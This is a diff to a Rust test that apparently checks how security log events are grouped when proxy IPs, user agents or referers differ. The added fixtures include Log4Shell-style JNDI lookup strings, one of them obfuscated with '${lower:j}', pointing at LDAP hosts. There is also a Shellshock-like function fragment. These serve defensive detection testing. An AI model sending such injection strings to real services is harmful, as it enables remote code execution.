@@ -290,6 +290,14 @@ fn who_stands_behind_a_proxy_and_what_was_called_and_sent_in_a_conversation_is_n
     let jndi = |host: &str| http("http_user_agent", &format!("${{jndi:ldap://{host}/a}}"));
     for (one, other) in [
         (json!({"xff": "198.51.100.1"}), json!({"xff": "203.0.113.77"})),
+        (
+            http("http_user_agent", "x ${${lower:j}ndi:ldap://198.51.100.1/a} 1"),
+            http("http_user_agent", "x ${${lower:j}ndi:ldap://203.0.113.77/a} 1"),
+        ),
+        (
+            http("http_user_agent", "${x} ${jndi:ldap://198.51.100.1/a"),
+            http("http_user_agent", "${x} ${jndi:ldap://203.0.113.77/a"),
+        ),
         (http("xff", "198.51.100.1"), http("xff", "203.0.113.77")),
         (
             json!({"xff": "198.51.100.1, 10.0.0.9"}),
@@ -331,6 +339,19 @@ fn who_stands_behind_a_proxy_and_what_was_called_and_sent_in_a_conversation_is_n
     for (one, other) in [
         (http("http_user_agent", "curl/8.1"), http("http_user_agent", "curl/8.2")),
         (http("http_user_agent", "x"), http("http_refer", "https://a.example/17")),
+        (
+            http("http_refer", "https://a.example/?u=${GUID}&c=ab"),
+            http("http_refer", "https://a.example/?u=${GUID}&c=xy"),
+        ),
+        (http("http_refer", "x() { a"), http("http_refer", "x() { b")),
+        (
+            http("http_response_body_printable", "<script>$(function() {a ${b}"),
+            http("http_response_body_printable", "<script>$(function() {c ${d}"),
+        ),
+        (
+            json!({"xff": "198.51.100.1, 203.0.113.7"}),
+            json!({"xff": "198.51.100.1, 203.0.113.8"}),
+        ),
         (
             query("SELECT * FROM t WHERE id = 17"),
             query("select * from t where id = 18"),
